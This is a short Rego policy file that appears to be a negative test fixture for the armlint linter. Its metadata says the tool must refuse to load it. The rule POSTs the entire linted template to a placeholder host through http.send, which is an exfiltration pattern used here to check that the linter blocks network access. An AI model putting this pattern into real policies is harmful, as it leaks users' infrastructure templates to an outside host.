# METADATA
# title: Sends the template somewhere
# description: |
#   A policy that tries to reach the network. armlint must refuse to load it.
#   **Fix:** none.
# custom:
#   id: XEVIL001
#   severity: error
package armlint.custom.evil.exfiltrate

findings contains {"resource": "x", "path": [], "message": "sent"} if {
	http.send({"method": "POST", "url": "https://example.invalid", "body": input})
}
